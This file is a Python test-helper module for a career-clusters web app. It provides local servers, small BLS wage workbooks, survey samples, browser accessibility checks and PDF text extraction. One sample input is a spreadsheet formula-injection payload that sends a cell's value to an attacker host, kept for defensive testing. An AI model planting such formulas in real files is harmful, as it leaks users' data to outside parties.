@@ -1,0 +1,314 @@
+"""What more than one test module needs and is not a fixture: where the official files are, a copy of a store,
+servers (the app in this process, ``careerclusters serve`` as a process, a stand-in for the publishers' file
+servers), BLS-shaped files made small, sample inputs, what a browser test checks on a page, and a PDF's text.
+
+Fixtures are in ``conftest.py`` (and ``browser/conftest.py``); test modules import from here, never from each
+other.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import gzip
+import http.server
+import os
+import re
+import shutil
+import signal
+import socket
+import sqlite3
+import subprocess
+import sys
+import threading
+import time
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+from pathlib import Path
+from typing import TYPE_CHECKING, Any
+
+import pytest
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Page
+
+    from careerclusters.survey.scoring import SurveyAnswers
+
+ROOT = Path(__file__).resolve().parents[1]
+SHARED = Path(os.environ.get("CAREERCLUSTERS_SHARED", ROOT.parent / "shared"))
+DATA = SHARED / "data"
+
+
+# -- the official files -----------------------------------------------------------------------------------------
+
+def require(path: Path) -> Path:
+    """``path`` if it exists, else fail the test loudly naming what is missing."""
+    if not path.exists():
+        pytest.fail(f"required shared file is missing: {path} (tests read the official files from ../shared)")
+    return path
+
+
+def official_paths(data: Path) -> list[Path]:
+    """Every official file in the shared data folder, as a user would pass them to `data import`."""
+    files = sorted(p for p in data.rglob("*") if p.suffix in {".xlsx", ".csv", ".gz"})
+    return [require(p) for p in files] + [require(data / "onet" / "db_27_0_text")]
+
+
+# -- stores -------------------------------------------------------------------------------------------------------
+
+def copy_store(source: Path, target: Path) -> Path:
+    """``target`` made a copy of the store ``source`` (SQLite's backup, consistent even while it is read)."""
+    reader, writer = sqlite3.connect(source), sqlite3.connect(target)
+    reader.backup(writer)
+    reader.close()
+    writer.close()
+    return target
+
+
+# -- servers ------------------------------------------------------------------------------------------------------
+
+def free_port() -> int:
+    """A TCP port free on 127.0.0.1 just now."""
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        return probe.getsockname()[1]
+
+
+@contextlib.contextmanager
+def serve_app(db: Path) -> Iterator[str]:
+    """The app over the store ``db`` in this process, on a free localhost port, warmed up, for as long as the
+    block runs; yields its base URL."""
+    import uvicorn
+
+    from careerclusters.server.app import create_app
+
+    app = create_app(db, warm=False)
+    app.state.context.warm()
+    port = free_port()
+    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning"))
+    thread = threading.Thread(target=server.run, daemon=True)
+    thread.start()
+    deadline = time.monotonic() + 20
+    while not server.started:
+        if time.monotonic() > deadline:
+            pytest.fail("the web server did not start")
+        time.sleep(0.05)
+    yield f"http://127.0.0.1:{port}"
+    server.should_exit = True
+    thread.join(timeout=10)
+
+
+@dataclass
+class Command:
+    """``careerclusters … serve`` running as a process: its base URL; once stopped, its exit status and stderr."""
+
+    process: subprocess.Popen
+    url: str
+    log: Path
+    returncode: int | None = None
+
+    def stderr(self) -> str:
+        return self.log.read_text(encoding="utf-8", errors="replace")
+
+
+@contextlib.contextmanager
+def serve_command(*args: str, log: Path, env: dict[str, str] | None = None) -> Iterator[Command]:
+    """``python -m careerclusters.cli ARGS --port PORT`` (ARGS end with ``serve`` and its options) on a free port,
+    its stderr written to ``log``; stopped with SIGTERM, as an operator stops it, when the block ends, with
+    ``returncode`` set."""
+    port = free_port()
+    with log.open("w") as stderr:
+        process = subprocess.Popen([sys.executable, "-m", "careerclusters.cli", *args, "--port", str(port)],
+                                   env=env, stdout=subprocess.DEVNULL, stderr=stderr)
+    served = Command(process, f"http://127.0.0.1:{port}", log)
+    try:
+        yield served
+    finally:
+        process.send_signal(signal.SIGTERM)
+        served.returncode = process.wait(timeout=30)
+
+
+class FileServer(http.server.ThreadingHTTPServer):
+    """Serves ``files`` by name; the first ``cut`` requests get the headers and half the body, then the
+    connection is closed, as a dropped download would be."""
+
+    def __init__(self, files: dict[str, bytes], cut: int):
+        self.files, self.cut, self.requests, self.agents = files, cut, 0, []
+        super().__init__(("127.0.0.1", 0), _FileHandler)
+
+
+class _FileHandler(http.server.BaseHTTPRequestHandler):
+    server: FileServer
+
+    def do_GET(self) -> None:  # noqa: N802 - the standard library's name
+        self.server.requests += 1
+        self.server.agents.append(self.headers.get("User-Agent", ""))
+        body = self.server.files.get(self.path.lstrip("/"))
+        if body is None:
+            self.send_error(404)
+            return
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        if self.server.requests <= self.server.cut:
+            self.wfile.write(body[: len(body) // 2])
+            self.wfile.flush()
+            self.connection.shutdown(2)
+            return
+        self.wfile.write(body)
+
+    def log_message(self, *args: object) -> None:
+        pass
+
+
+@contextlib.contextmanager
+def serve_files(files: dict[str, bytes], cut: int = 0) -> Iterator[FileServer]:
+    """A stand-in for a publisher's download server (see ``FileServer``) for as long as the block runs."""
+    server = FileServer(files, cut)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield server
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+# -- BLS's OEWS workbooks, made small -------------------------------------------------------------------------------
+
+OEWS_HEADER = ["AREA", "AREA_TITLE", "AREA_TYPE", "PRIM_STATE", "NAICS", "NAICS_TITLE", "I_GROUP", "OWN_CODE",
+               "OCC_CODE", "OCC_TITLE", "O_GROUP", "TOT_EMP", "EMP_PRSE", "JOBS_1000", "LOC_QUOTIENT", "PCT_TOTAL",
+               "PCT_RPT", "H_MEAN", "A_MEAN", "MEAN_PRSE", "H_PCT10", "H_PCT25", "H_MEDIAN", "H_PCT75", "H_PCT90",
+               "A_PCT10", "A_PCT25", "A_MEDIAN", "A_PCT75", "A_PCT90", "ANNUAL", "HOURLY"]
+
+
+def oews_row(area: str, title: str, area_type: str, state: str, soc: str, employment: object,
+             median: object) -> list:
+    """A cross-industry row of an OEWS area workbook."""
+    return [area, title, area_type, state, "000000", "Cross-industry", "cross-industry", "1235", soc, "x", "detailed",
+            employment, 1.0, 25.9, 1.19, None, None, 42.18, 87730, 0.4, 32.2, 38.08, 39.67, 47.61, 50.62, 66980,
+            79200, median, 99030, 105290, "", ""]
+
+
+def oews_industry_row(naics: str, title: str, group: str, employment: int, median: int) -> list:
+    """A national row of the all-areas workbook for Registered Nurses in one industry."""
+    row = oews_row("99", "U.S.", "1", "US", "29-1141", employment, median)
+    row[4:7] = [naics, title, group]
+    return row
+
+
+def oews_workbook(path: Path, sheet: str, rows: list[list]) -> Path:
+    """An OEWS area workbook at ``path``: ``rows`` on the sheet ``sheet``, then BLS's field descriptions sheet."""
+    import openpyxl
+
+    book = openpyxl.Workbook()
+    data = book.active
+    data.title = sheet
+    data.append(OEWS_HEADER)
+    for row in rows:
+        data.append(row)
+    book.create_sheet("Field Descriptions")
+    book.save(path)
+    return path
+
+
+def small_oews_bundle(data_dir: Path, folder: Path) -> Path:
+    """A bundle of the real one's layout and values, cut down to Registered Nurses nationally in every industry
+    and Ohio's cross-industry rows, so that importing it takes a second."""
+    full = folder / "full.sqlite"
+    with gzip.open(data_dir / "bls-oews-bundle/oews-2025.sqlite.gz") as source, full.open("wb") as target:
+        shutil.copyfileobj(source, target)
+    small = folder / "oews-small.sqlite"
+    conn = sqlite3.connect(small)
+    conn.execute("ATTACH ? AS f", (str(full),))
+    for table in ("area", "occupation", "industry", "datatype", "footnote", "meta"):
+        conn.execute(f"CREATE TABLE {table} AS SELECT * FROM f.{table}")  # noqa: S608 - fixed names
+    conn.execute("CREATE TABLE cell AS SELECT * FROM f.cell WHERE key LIKE 'OEUN0000000%291141' "
+                 "OR key LIKE 'OEUN0000000000000%' OR key LIKE 'OEUS3900000000000%'")
+    conn.commit()
+    conn.close()
+    full.unlink()
+    return small
+
+
+# -- sample inputs ------------------------------------------------------------------------------------------------
+
+#: A spreadsheet formula typed where a title or a code should be.
+HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A1,"Click for bonus")'
+
+#: A school's programs, as the alignment report reads them.
+ALIGNMENT_PROGRAMS = ("program,cip,enrolment,completers\n"
+                      "Nursing (RN),51.3801,120,40\n"
+                      "Cosmetology,12.0401,60,30\n"
+                      "Welding,48.0508,,25\n")
+
+
+def realistic_construction(lang: str = "en") -> SurveyAnswers:
+    """Survey answers that like every Realistic activity, dislike every other one, and tick every Construction
+    item."""
+    from careerclusters.survey import Part, load_instrument
+    from careerclusters.survey.scoring import SurveyAnswers
+
+    inst = load_instrument(lang)
+    answers = {i.id: 2 if i.key == "R" else 0 for i in inst.part(Part.INTEREST)}
+    answers |= {i.id: 2 for i in inst.part(Part.CLUSTER) if i.cluster_id == "construction"}
+    return SurveyAnswers(answers=answers, lang=lang)
+
+
+# -- in the browser -------------------------------------------------------------------------------------------------
+
+#: Collects the page's Content-Security-Policy violations in ``window.__cspViolations`` (an init script).
+CSP_WATCH = """window.__cspViolations = [];
+document.addEventListener('securitypolicyviolation',
+  e => window.__cspViolations.push(e.violatedDirective + ' ' + (e.blockedURI || 'inline')));"""
+
+_ACTIVE = """() => { const e = document.activeElement;
+  return {tag: e.tagName, type: e.type || null, name: e.name || null, value: e.value || null,
+          href: e.getAttribute('href')}; }"""
+
+
+def serious_violations(page: Page) -> list[str]:
+    """axe-core's serious and critical findings on the page, one line each."""
+    from axe_playwright_python.sync_playwright import Axe
+
+    results = Axe().run(page)
+    return [f"{v['id']}: {v['help']} ({len(v['nodes'])} nodes)" for v in results.response["violations"]
+            if v["impact"] in ("serious", "critical")]
+
+
+def focused(page: Page) -> str | None:
+    """The ``data-id`` of the element with the keyboard focus (the wheel's segments have one)."""
+    return page.evaluate("document.activeElement && document.activeElement.getAttribute('data-id')")
+
+
+def active_element(page: Page) -> dict[str, Any]:
+    """The focused element's tag, type, name, value and href."""
+    return page.evaluate(_ACTIVE)
+
+
+def tab_to(page: Page, wanted: Callable[[dict[str, Any]], bool], limit: int = 200) -> dict[str, Any]:
+    """Press Tab until the focused element is ``wanted`` (see ``active_element``), or fail."""
+    for _ in range(limit):
+        page.keyboard.press("Tab")
+        active = active_element(page)
+        if wanted(active):
+            return active
+    pytest.fail("the keyboard never reached the element")
+
+
+# -- PDFs -------------------------------------------------------------------------------------------------------------
+
+def pdf_text(pdf: Path | bytes) -> tuple[int, str]:
+    """A PDF's page count and its text as ``pdftotext -layout`` lays it out (Debian's poppler-utils)."""
+    data = pdf.read_bytes() if isinstance(pdf, Path) else pdf
+    assert data.startswith(b"%PDF-")
+    pdftotext = shutil.which("pdftotext")
+    if pdftotext is None:
+        pytest.fail("pdftotext is missing: scripts/test installs poppler-utils")
+    out = subprocess.run([pdftotext, "-layout", "-", "-"], input=data, capture_output=True, check=True).stdout
+    text = out.decode()
+    return text.count("\f"), text
+
+
+def words(text: str) -> str:
+    """``text`` with every run of white space made one space, to assert on phrases wherever lines break."""
+    return re.sub(r"\s+", " ", text)
